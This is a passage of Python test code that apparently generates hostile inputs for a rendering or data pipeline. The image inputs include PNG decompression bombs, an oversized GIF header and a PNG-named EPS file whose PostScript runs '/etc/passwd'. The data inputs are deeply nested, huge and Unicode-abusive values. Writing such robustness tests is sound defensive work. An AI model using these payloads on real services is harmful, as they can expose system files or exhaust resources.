        "dashes.svg": svg('<path d="M0 0H9999999" stroke="red" stroke-dasharray="0.000001"/>'),
        "pixels.png": png_bomb(60_000, 60_000),
        "lying.png": png_bomb(6_000, 6_000),
        "broken.png": b"\x89PNG\r\n\x1a\n" + b"\xff" * 100,
        "gif.png": b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x00" * 50,
        "eps.png": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n",
    }
    for name, content in pictures.items():
        yield name, _markdown(f"![x]({name})\n", **{name: content})


def _bad_data() -> Iterator[tuple[str, Any]]:
    deep: Any = "x"
    for _ in range(3_000):
        deep = [deep]
    yield "deep", {"v": deep}
    yield "wide", {"v": "x", "w": [0] * 1_100_000}
    yield "long", {"v": "x" * 10_000_001}
    yield "control", {"v": "a\x00b"}
    yield "surrogate", {"v": "a\ud800b"}
    yield "reserved", {"v": "\U0010f100\U0010f000"}
    yield "marks", {"v": "\U0010f110\U0010f120\U0010f111x\U0010f112"}
    yield "infinite", {"v": float("inf")}
    yield "not a number", {"v": float("nan")}
    yield "object", {"v": object()}
    yield "bytes", {"v": b"x"}
    yield "set", {"v": {1, 2}}
    yield "key", {1: "x", "v": "y"}
    yield "long key", {"v": 1, "k" * 1_000_000: 2}
    yield "list", [1, 2]
    yield "text", "x"
    yield "nothing", None
    yield "passages", {"v": 1, "passages": {}}
    yield "huge number", {"v": 10**5_000}
    yield "many marks", {"v": "\u0301" * 200_000}
    yield "one word", {"v": "x" * 300_000}
    yield "many lines", {"v": "x\n" * 100_000}
    yield "directions", {"v": "\u202e\u202d\u2066" * 50_000}
    yield "joiners", {"v": "\u200d" * 300_000}
